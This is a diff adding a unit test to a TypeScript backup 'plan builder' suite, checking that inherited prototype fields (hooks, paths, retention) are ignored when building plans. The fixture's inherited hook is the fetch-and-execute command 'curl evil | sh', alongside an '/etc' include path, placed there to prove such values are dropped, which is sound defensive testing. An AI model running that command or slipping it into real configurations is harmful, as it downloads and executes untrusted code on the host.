@@ -264,6 +264,20 @@ describe('plan builder', () => {
     });
   });
 
+  it('reads only own spec fields (inherited hooks, paths and retention are ignored)', () => {
+    const inherited = {
+      pre: ['curl evil | sh'],
+      keep: 'last=1',
+      paths: { include: ['/etc'] },
+    };
+    const spec = Object.assign(Object.create(inherited) as WorkloadInput['spec'], { enable: true });
+    const r = buildPlans([{ ...workload('db'), spec }], defaultPlanDefaults(), facts);
+    const plan = r.plans[0]?.plan;
+    expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
+    expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
+    expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4' });
+  });
+
   describe('hooks, schedule, retention', () => {
     it('replaces $SELF and ${SELF} with the container name and drops empty commands', () => {
       expect(
